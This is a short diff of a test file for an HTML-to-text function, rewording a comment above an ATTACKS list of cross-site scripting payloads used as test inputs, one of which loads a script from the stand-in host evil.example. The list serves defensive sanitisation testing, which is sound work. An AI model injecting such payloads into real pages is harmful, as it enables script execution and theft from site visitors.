@@ -60,7 +60,7 @@ test("a phrase has neither blocks nor links", () => {
 	expect(htmlText("<p>a<br>b</p><p>c &amp; d</p>")).toBe("a b c & d");
 });
 
-/** What has been used against pages that show others' HTML. */
+/** Known attacks on pages that show HTML of others. */
 const ATTACKS = [
 	"<script>alert(1)</script>",
 	"<ScRiPt src=//evil.example/x.js></sCrIpT>",
